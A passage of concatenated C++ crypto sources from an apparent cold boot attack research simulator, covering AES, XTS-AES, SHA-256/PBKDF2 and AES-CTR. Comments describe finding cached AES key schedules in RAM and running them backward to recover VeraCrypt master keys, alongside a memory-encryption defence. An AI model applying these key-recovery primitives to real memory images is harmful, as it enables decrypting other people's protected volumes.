gfDouble(uint8_t t[16])
{
    uint8_t carry = 0;
    for (int i = 0; i < 16; ++i) {
        uint8_t next_carry = static_cast<uint8_t>(t[i] >> 7);
        t[i] = static_cast<uint8_t>((t[i] << 1) | carry);
        carry = next_carry;
    }
    if (carry)
        t[0] ^= 0x87;
}

} // anonymous namespace

XtsAes::XtsAes(std::span<const uint8_t> data_key,
               std::span<const uint8_t> tweak_key)
    : data_aes(data_key), tweak_aes(tweak_key)
{
    if (data_key.size() != tweak_key.size())
        cb_fatal("XTS keys must have equal length (%zu vs %zu)",
                 data_key.size(), tweak_key.size());
}

void
XtsAes::cryptSector(uint64_t sector, std::span<const uint8_t> in,
                    std::span<uint8_t> out, bool encrypt) const
{
    cb_assert(in.size() == out.size(),
              "XtsAes: in/out length mismatch");
    if (in.empty() || in.size() % aesBlockBytes != 0)
        cb_fatal("XtsAes: data unit length %zu is not a nonzero "
                 "multiple of 16", in.size());

    // Tweak = AES_enc(tweak_key, LE128(sector)).
    uint8_t tweak[aesBlockBytes] = {};
    storeLE64(tweak, sector);
    tweak_aes.encryptBlock(tweak, tweak);

    uint8_t block[aesBlockBytes];
    for (size_t off = 0; off < in.size(); off += aesBlockBytes) {
        for (size_t i = 0; i < aesBlockBytes; ++i)
            block[i] = in[off + i] ^ tweak[i];
        if (encrypt)
            data_aes.encryptBlock(block, block);
        else
            data_aes.decryptBlock(block, block);
        for (size_t i = 0; i < aesBlockBytes; ++i)
            out[off + i] = block[i] ^ tweak[i];
        gfDouble(tweak);
    }
}

void
XtsAes::encryptSector(uint64_t sector, std::span<const uint8_t> in,
                      std::span<uint8_t> out) const
{
    cryptSector(sector, in, out, true);
}

void
XtsAes::decryptSector(uint64_t sector, std::span<const uint8_t> in,
                      std::span<uint8_t> out) const
{
    cryptSector(sector, in, out, false);
}

} // namespace coldboot::crypto
