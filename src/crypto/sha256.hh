/**
 * @file
 * SHA-256 (FIPS 180-4), HMAC-SHA256 (RFC 2104) and PBKDF2-HMAC-SHA256
 * (RFC 8018).
 *
 * These back the VeraCrypt-style volume substrate: the volume header
 * key is derived from the passphrase and salt with PBKDF2, mirroring
 * how TrueCrypt/VeraCrypt derive header keys before exposing the
 * master keys they protect.
 */

#ifndef COLDBOOT_CRYPTO_SHA256_HH
#define COLDBOOT_CRYPTO_SHA256_HH

#include <array>
#include <cstdint>
#include <span>
#include <vector>

namespace coldboot::crypto
{

/** SHA-256 digest size in bytes. */
constexpr size_t sha256DigestBytes = 32;

/**
 * Incremental SHA-256 hasher.
 */
class Sha256
{
  public:
    Sha256();

    /** Absorb more input. */
    void update(std::span<const uint8_t> data);

    /** Finalize and return the digest; the hasher must not be reused. */
    std::array<uint8_t, sha256DigestBytes> finish();

    /** One-shot convenience digest. */
    static std::array<uint8_t, sha256DigestBytes>
    digest(std::span<const uint8_t> data);

  private:
    void processBlock(const uint8_t block[64]);

    std::array<uint32_t, 8> state;
    uint64_t total_len;
    std::array<uint8_t, 64> buffer;
    size_t buffer_len;
};

/** HMAC-SHA256 of @p data under @p key. */
std::array<uint8_t, sha256DigestBytes>
hmacSha256(std::span<const uint8_t> key, std::span<const uint8_t> data);

/**
 * PBKDF2-HMAC-SHA256.
 *
 * @param password   Passphrase bytes.
 * @param salt       Salt bytes.
 * @param iterations Iteration count (>= 1).
 * @param dk_len     Derived key length in bytes.
 */
std::vector<uint8_t> pbkdf2Sha256(std::span<const uint8_t> password,
                                  std::span<const uint8_t> salt,
                                  uint32_t iterations, size_t dk_len);

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_SHA256_HH
