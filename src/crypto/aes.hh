/**
 * @file
 * FIPS-197 AES implementation with the pieces the cold boot attack
 * needs exposed as first-class API:
 *
 *  - the block cipher itself (AES-128/192/256, encrypt + decrypt);
 *  - full key-schedule expansion (the attack searches memory for these
 *    expanded schedules, exactly as disk encryption software caches
 *    them in RAM);
 *  - *partial* schedule stepping: given a window of Nk consecutive
 *    schedule words assumed to sit at an arbitrary position inside a
 *    schedule, predict the following words. The round-constant (Rcon)
 *    sequence depends on the absolute position, which is why the paper
 *    tries all possible round starts ("12 possible expansions" for
 *    AES-256) when testing a 64-byte memory block.
 *
 * The implementation is portable byte-oriented C++ (no AES-NI); the
 * S-box and its inverse are derived from the GF(2^8) definition at
 * static-initialization time rather than pasted as opaque tables.
 */

#ifndef COLDBOOT_CRYPTO_AES_HH
#define COLDBOOT_CRYPTO_AES_HH

#include <cstdint>
#include <span>
#include <vector>

namespace coldboot::crypto
{

/** AES always operates on 16-byte blocks. */
constexpr size_t aesBlockBytes = 16;

/** Supported AES key sizes, valued in bytes. */
enum class AesKeySize : size_t
{
    Aes128 = 16,
    Aes192 = 24,
    Aes256 = 32,
};

/** Number of rounds for a key size (10 / 12 / 14). */
constexpr int
aesRounds(AesKeySize ks)
{
    switch (ks) {
      case AesKeySize::Aes128: return 10;
      case AesKeySize::Aes192: return 12;
      case AesKeySize::Aes256: return 14;
    }
    return 0;
}

/** Key length in 32-bit words (Nk: 4 / 6 / 8). */
constexpr unsigned
aesNk(AesKeySize ks)
{
    return static_cast<unsigned>(ks) / 4;
}

/**
 * Expanded schedule length in bytes: 16 * (rounds + 1).
 * 176 for AES-128, 208 for AES-192, 240 for AES-256.
 */
constexpr size_t
aesScheduleBytes(AesKeySize ks)
{
    return aesBlockBytes * (static_cast<size_t>(aesRounds(ks)) + 1);
}

/** Forward S-box lookup (exposed for tests and the litmus code). */
uint8_t aesSbox(uint8_t x);

/**
 * One forward AES round applied in place: SubBytes, ShiftRows,
 * MixColumns (skipped when @p last) and AddRoundKey. Exposed so the
 * cycle-accurate pipelined engine model (one round per pipeline
 * stage) shares the exact datapath with the behavioural cipher.
 */
void aesRoundEncrypt(uint8_t state[aesBlockBytes],
                     const uint8_t round_key[aesBlockBytes],
                     bool last);

/** AddRoundKey alone (the whitening step before round 1). */
void aesAddRoundKey(uint8_t state[aesBlockBytes],
                    const uint8_t round_key[aesBlockBytes]);

/** Inverse S-box lookup. */
uint8_t aesInvSbox(uint8_t x);

/**
 * Expand a raw AES key into the full round-key schedule.
 *
 * @param key Raw key; length selects AES-128/192/256.
 * @return Schedule of aesScheduleBytes() bytes (round key r occupies
 *         bytes [16r, 16r+16)).
 */
std::vector<uint8_t> aesExpandKey(std::span<const uint8_t> key);

/**
 * One key-schedule recurrence step.
 *
 * Computes schedule word w[i] from w[i-1] (@p prev) and w[i-Nk]
 * (@p back_nk) for absolute word index @p i under key length @p nk
 * words. Words use the FIPS-197 big-endian byte order convention.
 */
uint32_t aesScheduleStep(uint32_t prev, uint32_t back_nk, unsigned i,
                         unsigned nk);

/**
 * Continue a key schedule from an arbitrary window.
 *
 * Treats @p window (exactly Nk words) as schedule words
 * w[i0-Nk] .. w[i0-1] and generates @p count subsequent words
 * w[i0] .. w[i0+count-1].
 *
 * This is the primitive behind the AES key litmus test: the caller
 * guesses i0 (equivalently, the starting round) and checks whether the
 * predicted continuation matches adjacent memory.
 *
 * @param window Nk consecutive schedule words (big-endian packed).
 * @param i0     Absolute index of the first word to generate;
 *               must be >= Nk.
 * @param count  Number of words to generate.
 * @param nk     Key length in words (4, 6 or 8).
 */
std::vector<uint32_t> aesScheduleContinue(
    std::span<const uint32_t> window, unsigned i0, unsigned count,
    unsigned nk);

/**
 * Run a key schedule backward from an arbitrary window.
 *
 * Treats @p window (exactly Nk words) as schedule words
 * w[i0] .. w[i0+Nk-1] and generates @p count preceding words,
 * returned in ascending index order: w[i0-count] .. w[i0-1].
 *
 * The recurrence w[i] = w[i-Nk] xor f(w[i-1]) is trivially invertible
 * (w[i-Nk] = w[i] xor f(w[i-1])), which lets the attack recover the
 * head of a key table - including the raw master key in words
 * w[0..Nk) - from any clean window found mid-table.
 *
 * @param window Nk consecutive schedule words.
 * @param i0     Absolute index of the window's first word;
 *               i0 >= count must hold.
 * @param count  Number of preceding words to generate.
 * @param nk     Key length in words (4, 6 or 8).
 */
std::vector<uint32_t> aesScheduleBackward(
    std::span<const uint32_t> window, unsigned i0, unsigned count,
    unsigned nk);

/** Pack 4 schedule bytes into a word (FIPS-197 order). */
inline uint32_t
aesWordFromBytes(const uint8_t *p)
{
    return (static_cast<uint32_t>(p[0]) << 24) |
           (static_cast<uint32_t>(p[1]) << 16) |
           (static_cast<uint32_t>(p[2]) << 8) |
           static_cast<uint32_t>(p[3]);
}

/** Unpack a schedule word back into 4 bytes (FIPS-197 order). */
inline void
aesBytesFromWord(uint32_t w, uint8_t *p)
{
    p[0] = static_cast<uint8_t>(w >> 24);
    p[1] = static_cast<uint8_t>(w >> 16);
    p[2] = static_cast<uint8_t>(w >> 8);
    p[3] = static_cast<uint8_t>(w);
}

/**
 * The AES block cipher with a fixed key.
 */
class Aes
{
  public:
    /**
     * Construct from a raw key.
     * @param key 16-, 24- or 32-byte key; anything else is fatal().
     */
    explicit Aes(std::span<const uint8_t> key);

    /** Encrypt one 16-byte block (in and out may alias). */
    void encryptBlock(const uint8_t in[aesBlockBytes],
                      uint8_t out[aesBlockBytes]) const;

    /** Decrypt one 16-byte block (in and out may alias). */
    void decryptBlock(const uint8_t in[aesBlockBytes],
                      uint8_t out[aesBlockBytes]) const;

    /** Key size this instance was constructed with. */
    AesKeySize keySize() const { return size; }

    /** Number of rounds (10/12/14). */
    int rounds() const { return aesRounds(size); }

    /**
     * The expanded round-key schedule, exactly as disk-encryption
     * software caches it in memory.
     */
    std::span<const uint8_t> schedule() const
    {
        return {sched.data(), sched.size()};
    }

  private:
    AesKeySize size;
    std::vector<uint8_t> sched;
};

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_AES_HH
