/**
 * @file
 * XTS-AES (IEEE 1619) sector encryption.
 *
 * TrueCrypt/VeraCrypt volumes encrypt data sectors with XTS-AES under
 * two independent AES keys (the "master keys" the paper's attack
 * recovers). Mounting a volume expands both keys into round-key
 * schedules that stay cached in RAM — the exact artifact a cold boot
 * attack searches for.
 */

#ifndef COLDBOOT_CRYPTO_XTS_HH
#define COLDBOOT_CRYPTO_XTS_HH

#include <cstdint>
#include <span>

#include "crypto/aes.hh"

namespace coldboot::crypto
{

/**
 * XTS-AES cipher over fixed-size data units (sectors).
 */
class XtsAes
{
  public:
    /**
     * @param data_key  AES key encrypting the data blocks (key 1).
     * @param tweak_key AES key encrypting the tweak (key 2); must be
     *                  the same length as @p data_key.
     */
    XtsAes(std::span<const uint8_t> data_key,
           std::span<const uint8_t> tweak_key);

    /**
     * Encrypt one data unit.
     *
     * @param sector Data unit number (tweak input).
     * @param in     Plaintext; length must be a nonzero multiple
     *               of 16.
     * @param out    Ciphertext destination of the same length.
     */
    void encryptSector(uint64_t sector, std::span<const uint8_t> in,
                       std::span<uint8_t> out) const;

    /** Decrypt one data unit (same constraints as encryptSector). */
    void decryptSector(uint64_t sector, std::span<const uint8_t> in,
                       std::span<uint8_t> out) const;

    /** The data-key cipher (schedule inspection for tests). */
    const Aes &dataCipher() const { return data_aes; }

    /** The tweak-key cipher. */
    const Aes &tweakCipher() const { return tweak_aes; }

  private:
    void cryptSector(uint64_t sector, std::span<const uint8_t> in,
                     std::span<uint8_t> out, bool encrypt) const;

    Aes data_aes;
    Aes tweak_aes;
};

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_XTS_HH
