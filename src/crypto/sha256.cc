#include "crypto/sha256.hh"

#include <bit>
#include <cstring>

#include "common/logging.hh"

namespace coldboot::crypto
{

namespace
{

constexpr uint32_t K[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5,
    0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
    0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc,
    0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,
    0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3,
    0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5,
    0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
    0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
};

inline uint32_t
rotr(uint32_t v, int n)
{
    return std::rotr(v, n);
}

} // anonymous namespace

Sha256::Sha256()
    : state{0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
            0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19},
      total_len(0), buffer{}, buffer_len(0)
{
}

void
Sha256::processBlock(const uint8_t block[64])
{
    uint32_t w[64];
    for (int i = 0; i < 16; ++i) {
        w[i] = (static_cast<uint32_t>(block[4 * i]) << 24) |
               (static_cast<uint32_t>(block[4 * i + 1]) << 16) |
               (static_cast<uint32_t>(block[4 * i + 2]) << 8) |
               static_cast<uint32_t>(block[4 * i + 3]);
    }
    for (int i = 16; i < 64; ++i) {
        uint32_t s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^
                      (w[i - 15] >> 3);
        uint32_t s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^
                      (w[i - 2] >> 10);
        w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }

    uint32_t a = state[0], b = state[1], c = state[2], d = state[3];
    uint32_t e = state[4], f = state[5], g = state[6], h = state[7];

    for (int i = 0; i < 64; ++i) {
        uint32_t s1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
        uint32_t ch = (e & f) ^ (~e & g);
        uint32_t temp1 = h + s1 + ch + K[i] + w[i];
        uint32_t s0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
        uint32_t maj = (a & b) ^ (a & c) ^ (b & c);
        uint32_t temp2 = s0 + maj;
        h = g; g = f; f = e;
        e = d + temp1;
        d = c; c = b; b = a;
        a = temp1 + temp2;
    }

    state[0] += a; state[1] += b; state[2] += c; state[3] += d;
    state[4] += e; state[5] += f; state[6] += g; state[7] += h;
}

void
Sha256::update(std::span<const uint8_t> data)
{
    total_len += data.size();
    size_t off = 0;
    if (buffer_len > 0) {
        size_t need = 64 - buffer_len;
        size_t take = std::min(need, data.size());
        std::memcpy(buffer.data() + buffer_len, data.data(), take);
        buffer_len += take;
        off = take;
        if (buffer_len == 64) {
            processBlock(buffer.data());
            buffer_len = 0;
        }
    }
    while (off + 64 <= data.size()) {
        processBlock(&data[off]);
        off += 64;
    }
    if (off < data.size()) {
        std::memcpy(buffer.data(), &data[off], data.size() - off);
        buffer_len = data.size() - off;
    }
}

std::array<uint8_t, sha256DigestBytes>
Sha256::finish()
{
    uint64_t bit_len = total_len * 8;
    uint8_t pad[72] = {0x80};
    // Pad to 56 mod 64, then append the 64-bit big-endian length.
    size_t pad_len = (buffer_len < 56) ? (56 - buffer_len)
                                       : (120 - buffer_len);
    uint8_t len_be[8];
    for (int i = 0; i < 8; ++i)
        len_be[i] = static_cast<uint8_t>(bit_len >> (56 - 8 * i));
    update({pad, pad_len});
    update({len_be, 8});

    std::array<uint8_t, sha256DigestBytes> out;
    for (int i = 0; i < 8; ++i) {
        out[4 * i] = static_cast<uint8_t>(state[i] >> 24);
        out[4 * i + 1] = static_cast<uint8_t>(state[i] >> 16);
        out[4 * i + 2] = static_cast<uint8_t>(state[i] >> 8);
        out[4 * i + 3] = static_cast<uint8_t>(state[i]);
    }
    return out;
}

std::array<uint8_t, sha256DigestBytes>
Sha256::digest(std::span<const uint8_t> data)
{
    Sha256 h;
    h.update(data);
    return h.finish();
}

std::array<uint8_t, sha256DigestBytes>
hmacSha256(std::span<const uint8_t> key, std::span<const uint8_t> data)
{
    std::array<uint8_t, 64> k_block{};
    if (key.size() > 64) {
        auto kd = Sha256::digest(key);
        std::memcpy(k_block.data(), kd.data(), kd.size());
    } else {
        std::memcpy(k_block.data(), key.data(), key.size());
    }

    std::array<uint8_t, 64> ipad, opad;
    for (int i = 0; i < 64; ++i) {
        ipad[i] = k_block[i] ^ 0x36;
        opad[i] = k_block[i] ^ 0x5c;
    }

    Sha256 inner;
    inner.update({ipad.data(), ipad.size()});
    inner.update(data);
    auto inner_digest = inner.finish();

    Sha256 outer;
    outer.update({opad.data(), opad.size()});
    outer.update({inner_digest.data(), inner_digest.size()});
    return outer.finish();
}

std::vector<uint8_t>
pbkdf2Sha256(std::span<const uint8_t> password,
             std::span<const uint8_t> salt, uint32_t iterations,
             size_t dk_len)
{
    if (iterations == 0)
        cb_fatal("pbkdf2Sha256: iteration count must be >= 1");

    std::vector<uint8_t> out;
    out.reserve(dk_len);
    uint32_t block_index = 1;
    while (out.size() < dk_len) {
        // U1 = HMAC(password, salt || INT_BE(block_index))
        std::vector<uint8_t> msg(salt.begin(), salt.end());
        msg.push_back(static_cast<uint8_t>(block_index >> 24));
        msg.push_back(static_cast<uint8_t>(block_index >> 16));
        msg.push_back(static_cast<uint8_t>(block_index >> 8));
        msg.push_back(static_cast<uint8_t>(block_index));
        auto u = hmacSha256(password, {msg.data(), msg.size()});
        auto t = u;
        for (uint32_t iter = 1; iter < iterations; ++iter) {
            u = hmacSha256(password, {u.data(), u.size()});
            for (size_t i = 0; i < t.size(); ++i)
                t[i] ^= u[i];
        }
        size_t take = std::min(t.size(), dk_len - out.size());
        out.insert(out.end(), t.begin(), t.begin() + take);
        ++block_index;
    }
    return out;
}

} // namespace coldboot::crypto
