/**
 * @file
 * AES counter-mode keystream generation, configured the way the paper
 * proposes for memory encryption: the physical address acts as the
 * counter and a boot-time nonce/key pair completes the input block.
 *
 * A 64-byte DRAM line needs four AES blocks, so encrypting a line
 * issues four counters (address || 0..3); this 4x counter fan-out is
 * exactly the property that costs AES under high bandwidth utilization
 * in the paper's Figure 6 queueing analysis.
 */

#ifndef COLDBOOT_CRYPTO_CTR_HH
#define COLDBOOT_CRYPTO_CTR_HH

#include <array>
#include <cstdint>
#include <span>

#include "crypto/aes_ttable.hh"

namespace coldboot::crypto
{

/**
 * AES-CTR keystream generator for 64-byte memory lines.
 */
class AesCtr
{
  public:
    /**
     * @param key   AES key (16/24/32 bytes).
     * @param nonce 8-byte boot-time nonce occupying the high half of
     *              each counter block.
     */
    AesCtr(std::span<const uint8_t> key, std::span<const uint8_t> nonce);

    /**
     * Generate the 64-byte keystream for the line at physical address
     * @p line_addr (line-granularity address; i.e. byte address >> 6).
     */
    void lineKeystream(uint64_t line_addr, uint8_t out[64]) const;

    /** XOR a 64-byte line with its keystream (encrypt == decrypt). */
    void cryptLine(uint64_t line_addr, std::span<const uint8_t> in,
                   std::span<uint8_t> out) const;

  private:
    FastAes aes;
    std::array<uint8_t, 8> nonce_bytes;
};

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_CTR_HH
