#include "crypto/ctr.hh"

#include <algorithm>

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::crypto
{

AesCtr::AesCtr(std::span<const uint8_t> key,
               std::span<const uint8_t> nonce)
    : aes(key)
{
    if (nonce.size() != 8)
        cb_fatal("AesCtr nonce must be 8 bytes, got %zu", nonce.size());
    std::copy(nonce.begin(), nonce.end(), nonce_bytes.begin());
}

void
AesCtr::lineKeystream(uint64_t line_addr, uint8_t out[64]) const
{
    // Counter block layout: nonce[0:8] || line_addr[8:14] || sub[14:16].
    uint8_t ctr[aesBlockBytes];
    std::copy(nonce_bytes.begin(), nonce_bytes.end(), ctr);
    for (unsigned sub = 0; sub < 4; ++sub) {
        uint64_t counter = (line_addr << 2) | sub;
        storeLE64(&ctr[8], counter);
        aes.encryptBlock(ctr, &out[16 * sub]);
    }
}

void
AesCtr::cryptLine(uint64_t line_addr, std::span<const uint8_t> in,
                  std::span<uint8_t> out) const
{
    cb_assert(in.size() == 64 && out.size() == 64,
              "AesCtr::cryptLine: line must be 64 bytes");
    uint8_t ks[64];
    lineKeystream(line_addr, ks);
    for (size_t i = 0; i < 64; ++i)
        out[i] = in[i] ^ ks[i];
}

} // namespace coldboot::crypto
