#include "crypto/aes.hh"

#include <array>
#include <cstring>

#include "common/logging.hh"

namespace coldboot::crypto
{

namespace
{

/**
 * GF(2^8) arithmetic tables built from first principles at static
 * initialization: exp/log tables over generator 0x03, from which both
 * the S-box (multiplicative inverse + affine transform) and the
 * MixColumns multiplications are derived.
 */
struct GfTables
{
    std::array<uint8_t, 256> exp{};
    std::array<uint8_t, 256> log{};
    std::array<uint8_t, 256> sbox{};
    std::array<uint8_t, 256> inv_sbox{};

    GfTables()
    {
        // exp/log over generator 3 (a generator of GF(2^8)*).
        uint8_t x = 1;
        for (int i = 0; i < 255; ++i) {
            exp[i] = x;
            log[x] = static_cast<uint8_t>(i);
            // multiply x by 3: x ^= xtime(x)
            uint8_t xt = static_cast<uint8_t>(
                (x << 1) ^ ((x & 0x80) ? 0x1b : 0));
            x = static_cast<uint8_t>(x ^ xt);
        }
        exp[255] = exp[0];

        for (int i = 0; i < 256; ++i) {
            // Multiplicative inverse (0 maps to 0).
            uint8_t inv = i == 0
                ? 0 : exp[255 - log[static_cast<uint8_t>(i)]];
            // Affine transform per FIPS-197.
            uint8_t s = 0;
            for (int bit = 0; bit < 8; ++bit) {
                uint8_t b = static_cast<uint8_t>(
                    ((inv >> bit) & 1) ^
                    ((inv >> ((bit + 4) % 8)) & 1) ^
                    ((inv >> ((bit + 5) % 8)) & 1) ^
                    ((inv >> ((bit + 6) % 8)) & 1) ^
                    ((inv >> ((bit + 7) % 8)) & 1) ^
                    ((0x63 >> bit) & 1));
                s |= static_cast<uint8_t>(b << bit);
            }
            sbox[i] = s;
            inv_sbox[s] = static_cast<uint8_t>(i);
        }
    }

    /** GF(2^8) multiply via the log/exp tables. */
    uint8_t
    mul(uint8_t a, uint8_t b) const
    {
        if (a == 0 || b == 0)
            return 0;
        int sum = log[a] + log[b];
        if (sum >= 255)
            sum -= 255;
        return exp[sum];
    }
};

/**
 * Meyers-singleton accessor: the tables are built on first use, which
 * makes cross-translation-unit initialization order irrelevant (the
 * T-table constructor in aes_ttable.cc calls aesSbox() during its own
 * static initialization).
 */
const GfTables &
gfTables()
{
    static const GfTables tables;
    return tables;
}

uint32_t
subWord(uint32_t w)
{
    return (static_cast<uint32_t>(gfTables().sbox[(w >> 24) & 0xff]) << 24) |
           (static_cast<uint32_t>(gfTables().sbox[(w >> 16) & 0xff]) << 16) |
           (static_cast<uint32_t>(gfTables().sbox[(w >> 8) & 0xff]) << 8) |
           static_cast<uint32_t>(gfTables().sbox[w & 0xff]);
}

uint32_t
rotWord(uint32_t w)
{
    return (w << 8) | (w >> 24);
}

/** Round constant Rcon[j] = x^(j-1) in GF(2^8), placed in the MSB. */
uint32_t
rcon(unsigned j)
{
    uint8_t c = 1;
    for (unsigned k = 1; k < j; ++k)
        c = static_cast<uint8_t>((c << 1) ^ ((c & 0x80) ? 0x1b : 0));
    return static_cast<uint32_t>(c) << 24;
}

AesKeySize
keySizeFromBytes(size_t n)
{
    switch (n) {
      case 16: return AesKeySize::Aes128;
      case 24: return AesKeySize::Aes192;
      case 32: return AesKeySize::Aes256;
      default:
        cb_fatal("AES key must be 16, 24 or 32 bytes, got %zu", n);
    }
}

} // anonymous namespace

uint8_t
aesSbox(uint8_t v)
{
    return gfTables().sbox[v];
}

uint8_t
aesInvSbox(uint8_t v)
{
    return gfTables().inv_sbox[v];
}

uint32_t
aesScheduleStep(uint32_t prev, uint32_t back_nk, unsigned i, unsigned nk)
{
    uint32_t temp = prev;
    if (i % nk == 0)
        temp = subWord(rotWord(temp)) ^ rcon(i / nk);
    else if (nk > 6 && i % nk == 4)
        temp = subWord(temp);
    return back_nk ^ temp;
}

std::vector<uint8_t>
aesExpandKey(std::span<const uint8_t> key)
{
    AesKeySize ks = keySizeFromBytes(key.size());
    unsigned nk = aesNk(ks);
    unsigned total_words =
        static_cast<unsigned>(aesScheduleBytes(ks)) / 4;

    std::vector<uint32_t> w(total_words);
    for (unsigned i = 0; i < nk; ++i)
        w[i] = aesWordFromBytes(&key[4 * i]);
    for (unsigned i = nk; i < total_words; ++i)
        w[i] = aesScheduleStep(w[i - 1], w[i - nk], i, nk);

    std::vector<uint8_t> out(4 * total_words);
    for (unsigned i = 0; i < total_words; ++i)
        aesBytesFromWord(w[i], &out[4 * i]);
    return out;
}

std::vector<uint32_t>
aesScheduleContinue(std::span<const uint32_t> window, unsigned i0,
                    unsigned count, unsigned nk)
{
    cb_assert(window.size() == nk,
              "aesScheduleContinue: window must hold exactly Nk=%u "
              "words, got %zu", nk, window.size());
    cb_assert(i0 >= nk, "aesScheduleContinue: i0=%u < nk=%u", i0, nk);

    // Rolling window of the last Nk words.
    std::vector<uint32_t> last(window.begin(), window.end());
    std::vector<uint32_t> out;
    out.reserve(count);
    for (unsigned k = 0; k < count; ++k) {
        unsigned i = i0 + k;
        uint32_t next = aesScheduleStep(last[nk - 1], last[0], i, nk);
        out.push_back(next);
        // Slide the window.
        for (unsigned j = 0; j + 1 < nk; ++j)
            last[j] = last[j + 1];
        last[nk - 1] = next;
    }
    return out;
}

std::vector<uint32_t>
aesScheduleBackward(std::span<const uint32_t> window, unsigned i0,
                    unsigned count, unsigned nk)
{
    cb_assert(window.size() == nk,
              "aesScheduleBackward: window must hold exactly Nk=%u "
              "words, got %zu", nk, window.size());
    cb_assert(i0 >= count, "aesScheduleBackward: i0=%u < count=%u",
              i0, count);

    // Rolling window holding words w[j+1 .. j+nk]; initially
    // j+1 == i0. Recover w[j], slide down, repeat.
    std::vector<uint32_t> win(window.begin(), window.end());
    std::vector<uint32_t> out(count);
    for (unsigned k = 0; k < count; ++k) {
        unsigned j = i0 - 1 - k;
        // w[j] = w[j+nk] ^ f(w[j+nk-1]), recurrence index j+nk.
        // aesScheduleStep(prev, 0, i, nk) evaluates f(prev) alone.
        uint32_t f_prev = aesScheduleStep(win[nk - 2], 0, j + nk, nk);
        uint32_t wj = win[nk - 1] ^ f_prev;
        out[count - 1 - k] = wj;
        for (unsigned m = nk - 1; m > 0; --m)
            win[m] = win[m - 1];
        win[0] = wj;
    }
    return out;
}

Aes::Aes(std::span<const uint8_t> key)
    : size(keySizeFromBytes(key.size())), sched(aesExpandKey(key))
{
}

void
aesAddRoundKey(uint8_t state[aesBlockBytes],
               const uint8_t round_key[aesBlockBytes])
{
    for (int i = 0; i < 16; ++i)
        state[i] ^= round_key[i];
}

void
aesRoundEncrypt(uint8_t state[aesBlockBytes],
                const uint8_t round_key[aesBlockBytes], bool last)
{
    // SubBytes.
    for (int i = 0; i < 16; ++i)
        state[i] = gfTables().sbox[state[i]];
    // ShiftRows: row r rotates left by r (index = r + 4c).
    uint8_t t[16];
    for (int r = 0; r < 4; ++r)
        for (int c = 0; c < 4; ++c)
            t[r + 4 * c] = state[r + 4 * ((c + r) & 3)];
    if (!last) {
        // MixColumns.
        for (int c = 0; c < 4; ++c) {
            uint8_t *col = &t[4 * c];
            uint8_t a0 = col[0], a1 = col[1];
            uint8_t a2 = col[2], a3 = col[3];
            col[0] = gfTables().mul(a0, 2) ^ gfTables().mul(a1, 3) ^ a2 ^ a3;
            col[1] = a0 ^ gfTables().mul(a1, 2) ^ gfTables().mul(a2, 3) ^ a3;
            col[2] = a0 ^ a1 ^ gfTables().mul(a2, 2) ^ gfTables().mul(a3, 3);
            col[3] = gfTables().mul(a0, 3) ^ a1 ^ a2 ^ gfTables().mul(a3, 2);
        }
    }
    for (int i = 0; i < 16; ++i)
        state[i] = t[i] ^ round_key[i];
}

void
Aes::encryptBlock(const uint8_t in[aesBlockBytes],
                  uint8_t out[aesBlockBytes]) const
{
    uint8_t s[16];
    std::memcpy(s, in, 16);

    aesAddRoundKey(s, sched.data());
    int nr = rounds();
    for (int round = 1; round <= nr; ++round)
        aesRoundEncrypt(s, sched.data() + 16 * round, round == nr);
    std::memcpy(out, s, 16);
}

void
Aes::decryptBlock(const uint8_t in[aesBlockBytes],
                  uint8_t out[aesBlockBytes]) const
{
    uint8_t s[16];
    std::memcpy(s, in, 16);

    int nr = rounds();
    const uint8_t *rk = sched.data() + 16 * nr;
    for (int i = 0; i < 16; ++i)
        s[i] ^= rk[i];

    for (int round = nr - 1; round >= 0; --round) {
        // InvShiftRows: row r rotates right by r.
        uint8_t t[16];
        for (int r = 0; r < 4; ++r)
            for (int c = 0; c < 4; ++c)
                t[r + 4 * ((c + r) & 3)] = s[r + 4 * c];
        // InvSubBytes.
        for (auto &b : t)
            b = gfTables().inv_sbox[b];
        // AddRoundKey.
        rk = sched.data() + 16 * round;
        for (int i = 0; i < 16; ++i)
            t[i] ^= rk[i];
        if (round > 0) {
            // InvMixColumns.
            for (int c = 0; c < 4; ++c) {
                uint8_t *col = &t[4 * c];
                uint8_t a0 = col[0], a1 = col[1];
                uint8_t a2 = col[2], a3 = col[3];
                col[0] = gfTables().mul(a0, 14) ^ gfTables().mul(a1, 11) ^
                         gfTables().mul(a2, 13) ^ gfTables().mul(a3, 9);
                col[1] = gfTables().mul(a0, 9) ^ gfTables().mul(a1, 14) ^
                         gfTables().mul(a2, 11) ^ gfTables().mul(a3, 13);
                col[2] = gfTables().mul(a0, 13) ^ gfTables().mul(a1, 9) ^
                         gfTables().mul(a2, 14) ^ gfTables().mul(a3, 11);
